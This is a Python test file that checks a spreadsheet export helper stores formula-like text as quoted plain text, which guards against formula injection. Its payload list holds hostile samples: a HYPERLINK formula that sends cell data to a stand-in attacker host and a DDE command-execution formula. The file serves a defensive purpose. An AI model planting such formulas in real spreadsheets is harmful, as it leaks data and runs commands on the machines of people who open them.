"""Exported spreadsheet cells never become formulas (issue 12 item 3)."""

from __future__ import annotations

import io

import pytest
from openpyxl import Workbook, load_workbook

from renda.core.spreadsheets import append_row, is_formula_like

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"详情")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_formula_like_text_is_stored_as_text_with_the_quote_prefix(payload):
    # given a row holding an attacker's title between ordinary values
    wb = Workbook()
    ws = wb.active
    append_row(ws, [1, payload, "普通标题", None, 2.5])
    buffer = io.BytesIO()
    wb.save(buffer)
    # when the file is read back
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active.cell(row=1, column=2)
    # then the cell is text (not a formula), unchanged, and stays text when edited in Excel
    assert cell.data_type == "s"
    assert cell.value == payload
    assert cell.quotePrefix


def test_ordinary_values_are_written_as_they_are():
    wb = Workbook()
    ws = wb.active
    append_row(ws, [1, "普通标题", None, 2.5, "a=b"])
    assert [c.value for c in ws[1]] == [1, "普通标题", None, 2.5, "a=b"]
    assert ws.cell(row=1, column=1).data_type == "n"
    assert not ws.cell(row=1, column=2).quotePrefix


def test_without_the_helper_openpyxl_would_write_a_formula():
    # the reason for the helper: a plain append stores "=…" as a formula
    wb = Workbook()
    ws = wb.active
    ws.append(["=1+1"])
    assert ws.cell(row=1, column=1).data_type == "f"
    assert is_formula_like("=1+1") and not is_formula_like("1=1") and not is_formula_like(3)
